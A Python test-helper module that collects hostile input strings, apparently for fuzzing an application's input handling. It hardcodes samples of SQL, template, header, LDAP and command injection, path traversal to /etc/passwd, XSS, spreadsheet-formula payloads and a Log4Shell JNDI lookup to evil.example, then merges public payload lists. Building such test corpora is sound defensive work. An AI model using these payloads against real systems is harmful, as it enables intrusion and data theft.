"""The hostile strings: of two public collections, the most hostile ones first."""

import json

from config import ROOT

HOSTILE = ROOT.parent / "shared" / "data" / "hostile"
SIGNS = (
    "script",
    "alert",
    "onerror",
    "onload",
    "http",
    "<",
    ">",
    '"',
    "'",
    "&",
    "%",
    "{",
    "$",
    "\\",
    "=",
    "+",
)
FORMULAS = (
    *("=1+1", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1", '=HYPERLINK("http://x","y")', "\uff1d1+1"),
    *('";=1+1', "\n=1+1", "'=1+1", " =1+1", "%0A=1+1", "=1+1\0"),
)
# One of each kind of injection: statements, templates, formats, headers, paths, commands, markup.
INJECTIONS = (
    "' OR '1'='1' --",
    "1; DROP TABLE person; --",
    "x' UNION SELECT password_hash FROM person --",
    "{{7*191}}${7*191}<%= 7*191 %>#{7*191}{% print(7*191) %}",
    "{{config.__class__.__init__.__globals__}}{0.__class__}%(SECRET_KEY)s%n%s",
    "x\r\nSet-Cookie: evil=1\r\n\r\n<script>alert(1)</script>",
    "x%0d%0aSet-Cookie:%20evil=1",
    "../../../../../../etc/passwd",
    "..%2f..%2f..%2fetc%2fpasswd%00.csv",
    "$(touch evil);`touch evil`|touch evil",
    "*)(uid=*))(|(uid=*",
    '"><svg onload=alert(1)>',
    "javascript:alert(1)//",
    "99999999999999999999999999",
    "${jndi:ldap://evil.example/x}",
)


def strings(number: int) -> list[str]:
    """So many strings, the most hostile first; fewer where the collections hold fewer.

    Raises FileNotFoundError where ../shared/data is not there.
    """
    listed = json.loads((HOSTILE / "blns.json").read_text(encoding="utf-8"))
    cells = (HOSTILE / "csv_injection_payloads.txt").read_text(encoding="utf-8").splitlines()
    found = dict.fromkeys(
        text for text in (*FORMULAS, *INJECTIONS, *cells, *sorted(listed, key=_harmlessness)) if text
    )
    return list(found)[:number]


def _harmlessness(text: str) -> tuple[int, int]:
    """Low for what holds code, markup, quotes or letters that are no plain ones."""
    signs = sum(sign in text.lower() for sign in SIGNS)
    strange = sum(not letter.isascii() or not letter.isprintable() for letter in text)
    return -signs - min(strange, 5), len(text)
